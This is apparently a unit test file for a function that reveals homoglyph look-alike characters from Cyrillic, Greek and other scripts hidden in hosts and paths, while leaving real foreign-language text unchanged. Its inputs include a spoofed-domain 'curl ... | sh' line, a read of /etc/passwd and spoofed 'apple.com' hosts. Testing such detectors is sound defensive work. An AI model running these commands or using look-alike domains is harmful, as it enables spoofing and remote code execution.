import {describe, expect, it} from 'vitest';
import {revealLookalikes} from '../../src/text/lookalikes.js';

describe('revealLookalikes', () => {
	it('shows the letters of another script in a word with Latin ones', () => {
		expect(revealLookalikes('curl https://g\u0456thub.com | sh')).toBe('curl https://g<U+0456>thub.com | sh');
		expect(revealLookalikes('cat /\u0435tc/passwd')).toBe('cat /<U+0435>tc/passwd');
		// Greek omicron, Armenian oh, Cherokee A among Latin letters.
		expect(revealLookalikes('g\u03bfogle \u0585k \u13aaws')).toBe('g<U+03BF>ogle <U+0585>k <U+13AA>ws');
	});

	it('shows a word of look-alikes only where it is part of a host or a path', () => {
		const apple = '\u0430\u0440\u0440\u04cf\u0435';
		expect(revealLookalikes(`curl https://${apple}.com`)).toBe(
			'curl https://<U+0430><U+0440><U+0440><U+04CF><U+0435>.com',
		);
		expect(revealLookalikes(`x@${apple}`)).toBe('x@<U+0430><U+0440><U+0440><U+04CF><U+0435>');
		expect(revealLookalikes(`cd ~/${apple}`)).toBe('cd ~/<U+0430><U+0440><U+0440><U+04CF><U+0435>');
		expect(revealLookalikes(`www.${apple}`)).toBe('www.<U+0430><U+0440><U+0440><U+04CF><U+0435>');
		expect(revealLookalikes(`ping ${apple}.com`)).toBe('ping <U+0430><U+0440><U+0440><U+04CF><U+0435>.com');
		expect(revealLookalikes(`ls ${apple}/`)).toBe('ls <U+0430><U+0440><U+0440><U+04CF><U+0435>/');
		expect(revealLookalikes(`cat .${apple}`)).toBe('cat .<U+0430><U+0440><U+0440><U+04CF><U+0435>');
		// On its own it is a word, not a name, at the end of a sentence too.
		for (const text of [`ls ${apple}`, `ls ${apple}.`, `ls ${apple}. Next`]) expect(revealLookalikes(text)).toBe(text);
	});

	it('leaves Russian, Greek and other text as it is, full stops too', () => {
		for (const text of [
			'git commit -m "у меня всё хорошо"',
			'Привет, мир.',
			'нет. Да.',
			'cat Ελληνικά.txt',
			'file名.txt 中文',
			'Café naïve',
			'\uff27ithub',
			'',
		])
			expect(revealLookalikes(text)).toBe(text);
	});
});
